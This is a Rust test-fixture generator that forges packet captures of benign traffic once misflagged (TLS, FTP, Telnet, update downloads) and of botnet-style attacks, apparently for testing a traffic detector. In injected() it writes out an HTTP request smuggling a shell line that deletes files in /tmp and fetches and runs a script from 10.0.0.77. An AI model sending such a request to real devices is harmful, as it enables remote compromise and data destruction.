//! Made-up traffic of people who do nothing wrong, each of a kind that was accused once. Written to `fixtures/forged-*.pcap` by
//! `tests/forged.rs`.

use super::shapes::Tape;
use super::{ACK, Forged, PSH, SYN, ethernet, host, ipv4, tcp_frame, udp};

/// Name and frames of every made-up fixture of this file.
#[must_use]
pub fn all() -> Vec<(&'static str, Vec<Forged>)> {
    vec![("forged-innocent", innocent()), ("forged-injected", injected())]
}

/// A TLS client's hello, with this name asked for.
fn hello(name: &str) -> Vec<u8> {
    let entry = [&[0, 0, (name.len() + 5) as u8][..], &[0, (name.len() + 3) as u8, 0, 0, name.len() as u8]].concat();
    let extension = [&[0, 0, 0][..], &entry[2..3], &entry[3..], name.as_bytes()].concat();
    let extensions = if name.is_empty() { Vec::new() } else { extension };
    let random: Vec<u8> = (0..32u32).map(|number| (number * 167 + 13) as u8).collect();
    let body =
        [&[3, 3][..], &random, &[0, 0, 4, 0xc0, 0x2f, 0xc0, 0x30, 1, 0], &[0, extensions.len() as u8], &extensions]
            .concat();
    let handshake = [&[1, 0, 0, body.len() as u8][..], &body].concat();
    [&[22, 3, 1, 0, handshake.len() as u8][..], &handshake].concat()
}

/// A TLS server's hello.
fn server_hello() -> Vec<u8> {
    let random: Vec<u8> = (0..32u32).map(|number| (number * 59 + 7) as u8).collect();
    let body = [&[3, 3][..], &random, &[0, 0xc0, 0x2f, 0, 0, 0]].concat();
    let handshake = [&[2, 0, 0, body.len() as u8][..], &body].concat();
    [&[22, 3, 3, 0, handshake.len() as u8][..], &handshake].concat()
}

fn text(said: &str) -> Vec<u8> {
    said.as_bytes().to_vec()
}

fn random(seed: u32, length: usize) -> Vec<u8> {
    let mut state = seed;
    let next = |_| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    (0..length).map(next).collect()
}

fn innocent() -> Vec<Forged> {
    let mut tape = Tape::default();
    // A remote desktop's client asks TLS for the address that was typed in.
    tape.tcp((1, 50_001), (2, 803), &[(false, hello("10.0.0.2")), (true, server_hello())]);
    // A TLS hello reaches a mail server that speaks first, and one that complains.
    let greeting = || text("220 mail.example.test ESMTP ready\r\n");
    tape.tcp((1, 50_002), (2, 804), &[(true, greeting()), (false, hello(""))]);
    let complaint = text("500 5.5.1 Command unrecognized: that was no command of mail\r\n");
    tape.tcp((1, 50_003), (2, 805), &[(false, hello("")), (true, complaint)]);
    // FTP that goes on in TLS.
    let ftp = [
        (true, text("220 files.example.test FTP server ready\r\n")),
        (false, text("AUTH TLS\r\n")),
        (true, text("234 Proceed with negotiation.\r\n")),
        (false, hello("files.example.test")),
        (true, server_hello()),
    ];
    tape.tcp((1, 50_004), (2, 807), &ftp);
    // Peers of a file-sharing network that encrypt: keys of 96 bytes and padding.
    tape.tcp(
        (1, 50_005),
        (2, 808),
        &[(false, random(1, 96 + 302)), (true, random(2, 96 + 241)), (false, random(3, 500))],
    );
    // A stray web request reaches an SSH server, which has greeted already and never answers it.
    let stray = text("GET / HTTP/1.1\r\nHost: 10.0.0.2:809\r\n\r\n");
    tape.tcp((1, 50_006), (2, 809), &[(true, text("SSH-2.0-OpenSSH_9.2\r\n")), (false, stray)]);
    // A system fetches an update where its maker says.
    let program = [&b"MZ\x90\0"[..], &[0; 56], &[0x40, 0, 0, 0], b"PE\0\0\x64\x86", &[0; 60]].concat();
    let get = "GET /c/msdownload/update/software/defu/2024/01/am_delta.exe HTTP/1.1\r\nHost: au.download.windowsupdate.com\r\n\r\n";
    let head = format!("HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/10.0\r\nContent-Length: {}\r\n\r\n", program.len());
    tape.tcp((1, 50_007), (2, 811), &[(false, text(get)), (true, [text(&head), program].concat())]);
    // An administrator logs in by Telnet and looks around.
    let telnet = [
        (true, b"\xff\xfd\x18\xff\xfd\x20\xff\xfb\x03router login: ".to_vec()),
        (false, b"\xff\xfb\x18\xff\xfc\x20admin\r\n".to_vec()),
        (true, text("Password: ")),
        (false, text("quite secret\r\n")),
        (true, text("\r\nLinux router 5.10.0 #1 SMP armv7l\r\n$ ")),
        (false, text("uname -a\r\n")),
        (true, text("Linux router 5.10.0 #1 SMP Tue Feb 22 00:57:18 UTC 2022 armv7l unknown\r\n$ ")),
        (false, text("id\r\n")),
        (true, text("uid=1000(admin) gid=1000(admin)\r\n$ ")),
    ];
    tape.tcp((1, 50_008), (2, 812), &telnet);
    // Devices announce themselves to everybody, every thirty seconds.
    for number in 0..16u64 {
        let announcement = [&[0x2e, 0xa7, 0xd9, 0x0b][..], &random(9, 60)].concat();
        tape.add(ethernet(0x0800, &ipv4(17, host(1), [10, 0, 0, 255], 0, &udp(50_009, 813, &announcement))));
        if let Some(last) = tape.0.last_mut() {
            last.time += number * 30_000_000_000;
        }
    }
    tape.0
}

/// Requests that carry a command, as botnets send them; a search for the words of one; requests without a version.
fn injected() -> Vec<Forged> {
    let mut tape = Tape::default();
    let missing = || (true, text("HTTP/1.1 404 Not Found\r\nServer: x\r\nContent-Length: 0\r\n\r\n"));
    let attack =
        "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://10.0.0.77/a.sh;sh+/tmp/a.sh HTTP/1.1\r\nHost: 10.0.0.2\r\n\r\n";
    tape.tcp((1, 50_001), (2, 817), &[(false, text(attack)), missing()]);
    let search = "GET /search?q=wget+http://10.0.0.77/a.sh+and+chmod HTTP/1.1\r\nHost: 10.0.0.2\r\n\r\n";
    tape.tcp((1, 50_002), (2, 819), &[(false, text(search)), missing()]);
    let page = || (true, text("<html><head><title>status</title></head><body>fine</body></html>\n"));
    tape.tcp((1, 50_003), (2, 821), &[(false, text("GET /status.html\r\n")), page()]);
    // A program in a TFTP transfer is told as that.
    let block =
        [&[0, 3, 0, 1][..], b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0\x01\0\0\0", &[0x11; 80]].concat();
    tape.udp((1, 50_004), (2, 823), b"\0\x01update.bin\0octet\0");
    tape.udp((2, 823), (1, 50_004), &block);
    tape.add(tcp_frame((1, 50_005), (2, 825), 99, SYN, &[]));
    tape.add(tcp_frame((2, 825), (1, 50_005), 499, SYN | ACK, &[]));
    tape.add(tcp_frame((1, 50_005), (2, 825), 100, PSH | ACK, b"GET key\r\n"));
    tape.0
}
